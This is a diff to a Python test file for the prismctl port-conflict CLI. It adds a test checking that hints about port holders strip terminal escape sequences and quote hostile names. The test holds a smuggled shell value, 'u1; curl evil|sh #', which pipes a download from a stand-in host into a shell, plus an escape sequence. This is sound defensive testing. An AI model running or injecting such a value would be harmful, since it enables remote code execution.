@@ -18,12 +18,19 @@ from prismctl.cli.holder_ending import (
     is_same_holder,
     taken_of,
 )
-from prismctl.cli.port_questions import HeldPorts, choices_for, find_obstacle, group_by_holder
+from prismctl.cli.port_questions import (
+    HeldPorts,
+    choices_for,
+    find_obstacle,
+    group_by_holder,
+    obstacle_lines,
+)
 from prismctl.domain.addressing import PortConflict, PortHolder
-from prismctl.domain.port_owner import ContainerOwner
+from prismctl.domain.port_owner import ContainerOwner, StackOwner
 from prismctl.domain.service import ServiceName
 from prismctl.files.stack_owners import recognize_stack
 from prismctl.machine import is_port_free, who_holds
+from prismctl.present.text import plain
 from tests.free_ports import take_port
 from tests.port_holder import holding
 
@@ -58,6 +65,21 @@ def conflicts_of(*holders: PortHolder | None) -> list[PortConflict]:
         PortConflict(number, ServiceName("web"), f"p{number}", holder)
         for number, holder in enumerate(holders, start=8981)
     ]
+
+
+def test_a_hint_about_a_holder_has_no_escape_sequences_in_it() -> None:
+    evil = "u1; curl evil|sh #\x1b]0;OWNED\x07"
+    stack = StackOwner("k", stack=evil, home=f"/tmp/{evil}", is_other_home=True)
+    for holder in (
+        ANA._replace(owner=stack),
+        ANA._replace(container=ContainerOwner("podman", evil)),
+    ):
+        (held,) = group_by_holder(conflicts_of(holder))
+        obstacle = find_obstacle(held)
+        assert obstacle is not None
+        shown = [plain(each) for each in obstacle_lines(obstacle)]
+        assert all(each.isprintable() for each in shown)
+        assert "'u1; curl evil|sh #" in shown[-1] or "'/tmp/u1; curl evil|sh #" in shown[-1]
 
 
 def test_a_holder_is_ended_and_the_port_is_free() -> None:
